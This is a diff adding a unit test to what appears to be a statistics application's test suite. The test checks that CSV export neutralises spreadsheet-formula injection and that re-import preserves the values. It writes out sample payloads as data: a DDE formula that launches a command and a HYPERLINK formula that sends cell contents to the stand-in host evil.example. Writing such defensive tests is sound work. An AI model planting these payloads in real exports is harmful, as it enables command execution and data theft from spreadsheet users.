@@ -218,6 +218,33 @@ describe('harmony: observations, import, export, Gini', () => {
     expect(sibling.observationsCsv.trim().split(/\r\n/)).toHaveLength(1);
   });
 
+  it('exports a source that a spreadsheet would run as a formula as inert text, and re-imports it unchanged', async () => {
+    const formulas = [`=cmd|' /C calc'!A0`, '=HYPERLINK("http://evil.example/?x="&A2,"s")', '+1', '-1', '@SUM(A1)'];
+    const indicators = ['PETITIONS', 'MASS_INCIDENTS', 'HOT_ISSUES', 'PARTY_APPLICATIONS', 'CADRE_TRUST'];
+    for (const [i, source] of formulas.entries()) {
+      await county.ok(RECORD, {
+        input: { regionId: ids.get('880101002'), period: '2024-Q1', indicatorCode: indicators[i], value: 50 + i, source },
+      });
+    }
+    const { observationsCsv } = await county.ok<{ observationsCsv: string }>(
+      'query ($f: ObservationFilter) { observationsCsv(filter: $f) }',
+      { f: { withinId: ids.get('880101002'), period: '2024-Q1' } },
+    );
+    for (const source of formulas) {
+      const row = observationsCsv.split(/\r\n/).find((line) => line.includes(source.replace(/"/g, '""')));
+      expect(row, source).toBeDefined();
+      // The cell starts with an apostrophe (quoted or not): no spreadsheet evaluates it.
+      expect(row!).toMatch(/,"?'[=+\-@]/);
+    }
+    expect(observationsCsv.trim().split(/\r\n/)).toHaveLength(1 + 7);
+    const { importObservations } = await county.ok<{ importObservations: Report }>(IMPORT, { csv: observationsCsv });
+    expect(importObservations).toMatchObject({ accepted: true, written: 7 });
+    const sources = await sql<{ source: string }>(
+      `select o.source from observation o join region r on r.id = o.region_id where r.code = '880101002' and o.period = '2024-Q1'`,
+    );
+    expect(sources.map((row) => row.source)).toEqual(expect.arrayContaining(formulas));
+  });
+
   it('computes the Gini from microdata (weighted or not) and records it with its method', async () => {
     const incomes = [12, 18, 25, 31, 40, 55, 70, 95, 130, 210];
     const weights = [3, 2, 2, 1, 1, 1, 1, 1, 1, 1];
